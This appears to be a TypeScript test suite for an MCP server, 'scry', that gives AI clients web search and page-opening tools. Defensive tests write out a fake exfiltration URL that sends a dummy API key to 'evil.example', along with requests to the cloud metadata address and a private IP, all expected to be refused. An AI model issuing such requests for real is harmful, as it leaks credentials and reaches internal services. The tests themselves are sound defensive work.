import { Client } from "@modelcontextprotocol/client";
import { StdioClientTransport } from "@modelcontextprotocol/client/stdio";
import { estimateTokens } from "@scry/page/passages";
import { afterAll, describe, expect, it } from "vitest";
import { launcher, scry, temporaryFolder } from "./support/command.ts";
import { textOf } from "./support/mcp-answer.ts";
import { pageHtml, servePages } from "./support/pages.ts";
import { serve, serveSearxng, twoResults } from "./support/servers.ts";

const clients: Client[] = [];
afterAll(() => Promise.all(clients.map((client) => client.close())));

/** A real client over a real process. */
async function connect(args: readonly string[] = [], env: Record<string, string> = {}): Promise<Client> {
  const folder = temporaryFolder();
  const transport = new StdioClientTransport({
    command: process.execPath,
    args: [launcher, "mcp", ...args],
    cwd: folder,
    env: {
      PATH: process.env.PATH ?? "",
      HOME: folder,
      XDG_CONFIG_HOME: folder,
      XDG_STATE_HOME: folder,
      ...env,
    },
  });
  const client = new Client({ name: "test", version: "1.0.0" });
  await client.connect(transport);
  clients.push(client);
  return client;
}

describe("scry mcp over stdio", () => {
  it("offers two tools, small and always in the same order", async () => {
    const client = await connect();
    const { tools } = await client.listTools();
    expect(tools.map(({ name }) => name)).toEqual(["web_search", "open_page"]);
    // As they are sent: what a client puts before a model in every request.
    expect(JSON.stringify({ tools }).length).toBeLessThan(4200);
    expect(estimateTokens(JSON.stringify({ tools }))).toBeLessThan(700);
    for (const tool of tools) {
      expect(tool.annotations).toMatchObject({ readOnlyHint: true, openWorldHint: true });
      expect(tool.inputSchema.type).toBe("object");
      expect(tool.outputSchema).toBeUndefined();
    }
  });

  it("returns a recorded page with the same text, without its server", async () => {
    const pages = await servePages({ "/mill": pageHtml("The mill") });
    const file = `${temporaryFolder()}/run.jsonl`;
    const env = { SCRY_ALLOW_PRIVATE: new URL(pages.url).host };
    const read = async (how: Record<string, string>) => {
      const client = await connect([], { ...env, ...how });
      const page = textOf(
        await client.callTool({ name: "open_page", arguments: { url: `${pages.url}/mill` } }),
      );
      const other = await client.callTool({ name: "open_page", arguments: { url: `${pages.url}/other` } });
      await client.close();
      return { page, other: textOf(other) };
    };
    const recorded = await read({ SCRY_RECORD: file });
    expect(recorded.page).toContain("On Monday the miller");
    const asked = pages.asked.length;
    expect(await read({ SCRY_REPLAY: file })).toEqual(recorded);
    expect(pages.asked).toHaveLength(asked);
  });

  it("finds, cites and opens pages of the library without a network", async () => {
    const pages = await servePages({
      "/sluice": pageHtml("The sluice", "<p>The sluice is nine feet wide.</p>"),
    });
    const folder = temporaryFolder();
    const url = `${pages.url}/sluice`;
    await pages.run(["library", "add", url], { folder });
    const SCRY_ALLOW_PRIVATE = new URL(pages.url).host;
    const client = await connect([], { SCRY_OFFLINE: "1", XDG_STATE_HOME: folder, SCRY_ALLOW_PRIVATE });
    const asked = pages.asked.length;
    const query = "how wide is the sluice";
    const found = textOf(await client.callTool({ name: "web_search", arguments: { query } }));
    expect(found).toContain("1. The sluice");
    expect(found).toMatch(/from your library, read on \d{4}-\d\d-\d\d/);
    const opened = textOf(await client.callTool({ name: "open_page", arguments: { url } }));
    expect(opened).toContain("nine feet wide");
    expect(opened).toContain("This is the copy in your library");
    expect(pages.asked).toHaveLength(asked);
  });

  it("sends a result once, as text, with nothing in it that only an operator can do", async () => {
    const server = await serveSearxng(twoResults);
    const client = await connect([], { SEARXNG_URL: server.url });
    const found = await client.callTool({ name: "web_search", arguments: { query: "one" } });
    expect(found.structuredContent).toBeUndefined();
    expect(textOf(found)).toContain("The first");
    const refused = await client.callTool({ name: "open_page", arguments: { url: "http://10.0.0.1/" } });
    expect(refused.isError).toBe(true);
    expect(textOf(refused)).toContain("Next step: Use a public URL.");
    expect(textOf(refused)).not.toMatch(/policy\.|SCRY_/);
  });

  it("searches, numbers the sources of one conversation, and gives the same as structured content", async () => {
    const server = await serveSearxng(twoResults);
    const client = await connect(["--structured"], { SEARXNG_URL: server.url });
    const first = await client.callTool({ name: "web_search", arguments: { query: "one" } });
    const again = await client.callTool({ name: "web_search", arguments: { query: "two" } });
    const ids = (result: typeof first) =>
      (result.structuredContent as { results: { citation_id: number }[] }).results.map(
        ({ citation_id }) => citation_id,
      );
    expect(ids(first)[0]).toBe(1);
    expect(ids(again)).toEqual(ids(first));
    expect(textOf(first)).toMatch(/^Found \d+ results? for "one":\n\n<\S+ \w+> Data from web search/);
    expect(first.isError).toBe(false);
  });

  it("marks structured content as coming from the web, and a page in it", async () => {
    const search = await serveSearxng(twoResults);
    const pages = await servePages({ "/mill": pageHtml("The mill") });
    const client = await connect(["--structured"], {
      SEARXNG_URL: search.url,
      SCRY_ALLOW_PRIVATE: new URL(pages.url).host,
    });
    const found = await client.callTool({ name: "web_search", arguments: { query: "one" } });
    const page = await client.callTool({ name: "open_page", arguments: { url: `${pages.url}/mill` } });
    for (const { _meta } of [found, page])
      expect(_meta).toMatchObject({ "scry/provenance": "untrusted web content" });
    const { content } = page.structuredContent as { content: string };
    expect(content).toMatch(/^<web-data \d+> Data from http.*On Monday the miller.*<\/web-data \d+>$/s);
  });

  it("says what failed as an error of the tool, not of the protocol", async () => {
    const client = await connect([], { SEARXNG_URL: "http://127.0.0.1:9" });
    const failed = await client.callTool({ name: "web_search", arguments: { query: "x" } });
    expect(failed.isError).toBe(true);
    expect(textOf(failed)).toMatch(/Search failed:\n- searxng/);
    const refused = await client.callTool({
      name: "open_page",
      arguments: { url: "http://169.254.169.254/" },
    });
    expect(refused.isError).toBe(true);
    expect(textOf(refused)).not.toContain("169.254");
  });

  it("opens with --only-seen what a result named, and nothing else", async () => {
    const page = await serve((_request, response) => {
      response.setHeader("content-type", "text/html");
      response.end(pageHtml("Mills", "<p>The mill was built in 1803.</p>"));
    });
    const { host } = new URL(page.url);
    const result = { title: "Mills", url: `${page.url}/mill?b=2&a=1`, content: "A mill." };
    const server = await serveSearxng([result]);
    const client = await connect(["--only-seen"], { SEARXNG_URL: server.url, SCRY_ALLOW_PRIVATE: host });
    const open = async (url: string) =>
      textOf(await client.callTool({ name: "open_page", arguments: { url } }));
    expect(await open(result.url)).toContain("Only addresses from the user");
    await client.callTool({ name: "web_search", arguments: { query: "mill" } });
    expect(await open(`${page.url}/mill/?a=1&b=2`)).toContain("1803");
    expect(page.asked.map(({ pathname, search }) => pathname + search)).toEqual(["/mill?b=2&a=1"]);
    expect(await open(`${page.url}/other`)).toContain("Only addresses from the user");
  });

  it("returns part of a long page, with a link to the whole of it", async () => {
    const body = Array.from(
      { length: 400 },
      (_, index) => `<p>Paragraph ${index} tells of rivers and mills.</p>`,
    ).join("");
    const server = await serve((_request, response) => {
      response.setHeader("content-type", "text/html");
      response.end(`<title>Mills</title><article><h1>Mills</h1>${body}</article>`);
    });
    const client = await connect(["--structured"], { SCRY_ALLOW_PRIVATE: new URL(server.url).host });
    const page = await client.callTool({
      name: "open_page",
      arguments: { url: `${server.url}/mills`, max_length: 1000 },
    });
    const [, link] = page.content as { type: string; uri?: string }[];
    expect(link).toMatchObject({ type: "resource_link", mimeType: "text/markdown" });
    const whole = await client.readResource({ uri: link?.uri ?? "" });
    expect((whole.contents[0] as { text: string }).text).toContain("Paragraph 300 tells");
    expect(server.asked.filter(({ pathname }) => pathname === "/mills")).toHaveLength(1);
    expect((page.structuredContent as { content: string }).content).toMatch(/^<\S+ \w+> Data from/);
  });

  it("reads no page as a resource that the tool would not open", async () => {
    const client = await connect([], { TAVILY_API_KEY: "tvly-k3y-of-the-mill" });
    const read = (url: string) =>
      client.readResource({ uri: `scry://page/${Buffer.from(url).toString("base64url")}` });
    await expect(read("https://evil.example/?k=tvly-k3y-of-the-mill")).rejects.toThrow(/secret/);
    await expect(read("http://169.254.169.254/")).rejects.toThrow();
  });

  it("has a prompt for research", async () => {
    const client = await connect(["--name", "search_web"]);
    const prompt = await client.getPrompt({
      name: "research",
      arguments: { question: "Why is the sky blue?" },
    });
    expect(JSON.stringify(prompt.messages)).toMatch(/sky blue.*search_web.*open_page/s);
    const readOnly = await connect(["--tools", "open"]);
    const asked = await readOnly.getPrompt({ name: "research", arguments: { question: "?" } });
    expect(JSON.stringify(asked.messages)).not.toContain("web_search");
  });

  it("takes other names, fewer tools, and smaller schemas", async () => {
    const renamed = await connect(["--name", "search_web", "--tools", "search", "--compact"]);
    const { tools } = await renamed.listTools();
    expect(tools.map(({ name }) => name)).toEqual(["search_web"]);
    expect(tools[0]?.outputSchema).toBeUndefined();
    const disabled = await connect([], { WEB_SEARCH_ENABLED: "false" });
    expect((await disabled.listTools()).tools.map(({ name }) => name)).toEqual(["open_page"]);
  });

  const modes = [
    "",
    "--compact",
    "--structured",
    "--chatgpt",
    "--tools search",
    "--name search_web --open-name read",
  ];
  it.each(modes)("lists its tools in few characters, always the same: %j", async (mode) => {
    const args = mode.split(" ").filter(Boolean);
    const client = await connect(args);
    const { tools } = await client.listTools();
    expect(JSON.stringify(tools).length).toBeLessThan(mode === "--structured" ? 12_000 : 4200);
    expect((await client.listTools()).tools).toEqual(tools);
    const another = await connect(args);
    expect((await another.listTools()).tools).toEqual(tools);
  });

  it("offers search and fetch as ChatGPT's connectors expect them", async () => {
    const service = await serveSearxng(twoResults);
    const site = await servePages({ "/mill": pageHtml("The mill") });
    const host = new URL(site.url).host;
    const client = await connect(["--chatgpt"], { SEARXNG_URL: service.url, SCRY_ALLOW_PRIVATE: host });
    const { tools } = await client.listTools();
    expect(tools.map(({ name, inputSchema }) => [name, inputSchema.required])).toEqual([
      ["search", ["query"]],
      ["fetch", ["id"]],
    ]);
    const found = await client.callTool({ name: "search", arguments: { query: "mills" } });
    const [first] = twoResults;
    const expected = { id: first?.url, title: first?.title, url: first?.url, text: "Says one & more." };
    expect(found.structuredContent).toMatchObject({ results: [expected, {}] });
    expect(found.content).toHaveLength(1);
    expect(JSON.parse(textOf(found))).toEqual(found.structuredContent);

    // The id is all that another process needs.
    const another = await connect(["--chatgpt"], { SCRY_ALLOW_PRIVATE: host });
    const url = `${site.url}/mill`;
    const page = await another.callTool({ name: "fetch", arguments: { id: url } });
    expect(page.structuredContent).toMatchObject({ id: url, title: "The mill", url, metadata: {} });
    expect(page.structuredContent).toHaveProperty("text", expect.stringContaining("opened the sluice"));
    expect(JSON.parse(textOf(page))).toEqual(page.structuredContent);
    for (const { _meta } of [found, page])
      expect(_meta).toMatchObject({ "scry/provenance": "untrusted web content" });

    const failed = await another.callTool({ name: "fetch", arguments: { id: `${site.url}/none` } });
    expect(failed.isError).toBe(true);
    expect(textOf(failed)).toMatch(/^Could not open the page: /);
  });

  it.each(["2025", "2026"])("answers a client of %s that closes its input at once", async (era) => {
    const service = await serve((_request, response) => {
      setTimeout(() => response.writeHead(200, { "content-type": "text/html" }).end(pageHtml("Late")), 300);
    });
    const meta = {
      "io.modelcontextprotocol/protocolVersion": "2026-07-28",
      "io.modelcontextprotocol/clientCapabilities": {},
    };
    const hello = {
      protocolVersion: "2025-06-18",
      capabilities: {},
      clientInfo: { name: "t", version: "1" },
    };
    const call = { name: "open_page", arguments: { url: `${service.url}/late` } };
    const messages = [
      ...(era === "2025"
        ? [
            { id: 1, method: "initialize", params: hello },
            { method: "notifications/initialized" },
            { id: 2, method: "tools/call", params: call },
          ]
        : [{ id: 2, method: "tools/call", params: { ...call, _meta: meta } }]),
    ].map((message) => JSON.stringify({ jsonrpc: "2.0", ...message }));
    const { code, stdout } = await scry(["mcp"], {
      env: { SCRY_ALLOW_PRIVATE: new URL(service.url).host },
      meanwhile: (child) => child.stdin?.end(`${messages.join("\n")}\n`),
    });
    expect(code).toBe(0);
    const answers = stdout
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line));
    expect(answers.find(({ id }) => id === 2).result.content[0].text).toContain("Late");
  });

  it("does not wait for a call that the client cancelled", async () => {
    const service = await serve(() => undefined);
    const call = { name: "open_page", arguments: { url: `${service.url}/never` } };
    const hello = {
      protocolVersion: "2025-06-18",
      capabilities: {},
      clientInfo: { name: "t", version: "1" },
    };
    const messages = [
      { id: 1, method: "initialize", params: hello },
      { id: 2, method: "tools/call", params: call },
      { method: "notifications/cancelled", params: { requestId: 2 } },
    ].map((message) => JSON.stringify({ jsonrpc: "2.0", ...message }));
    const { code, stdout } = await scry(["mcp"], {
      env: { SCRY_ALLOW_PRIVATE: new URL(service.url).host },
      meanwhile: (child) => child.stdin?.end(`${messages.join("\n")}\n`),
    });
    expect(code).toBe(0);
    expect(stdout).not.toContain('"id":2');
  });

  it("writes nothing but the protocol to stdout, and ends with its client", async () => {
    const { code, stdout } = await scry(["mcp"], {
      meanwhile: (child) => {
        const hello = {
          protocolVersion: "2025-06-18",
          capabilities: {},
          clientInfo: { name: "t", version: "1" },
        };
        child.stdin?.write(
          `${JSON.stringify({ jsonrpc: "2.0", id: 1, method: "initialize", params: hello })}\n`,
        );
        child.stdout?.once("data", () => child.stdin?.end());
      },
    });
    expect(code).toBe(0);
    for (const line of stdout.trim().split("\n")) expect(JSON.parse(line)).toMatchObject({ jsonrpc: "2.0" });
  });

  it.each<[string[], string, Record<string, string>?]>([
    [["--tools", "everything"], "search, open"],
    [["--name", "no spaces"], "letters"],
    [["extra"], "options only"],
    [["--chatgpt", "--name", "search_web"], "names of the tools"],
    [["--name", "web", "--open-name", "web"], "Both tools would be called web"],
    [["--name", "open_page"], "Both tools would be called open_page"],
    [["--tools", "search"], "no tool to offer", { WEB_SEARCH_ENABLED: "false" }],
  ])("explains wrong usage: %j", async (args, words, env = {}) => {
    const { code, stderr } = await scry(["mcp", ...args], { env });
    expect(code).toBe(2);
    expect(stderr).toContain(words);
  });
});
